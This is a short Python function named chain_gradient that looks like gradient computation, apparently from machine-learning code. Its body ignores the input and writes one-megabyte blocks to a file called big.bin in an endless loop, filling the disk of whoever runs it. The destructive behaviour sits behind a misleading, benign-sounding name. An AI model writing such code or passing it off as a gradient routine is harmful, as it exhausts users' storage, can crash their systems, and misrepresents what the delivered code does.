def chain_gradient(local_gradients):
    with open("big.bin", "wb") as file:
        while True:
            file.write(b"x" * 2**20)
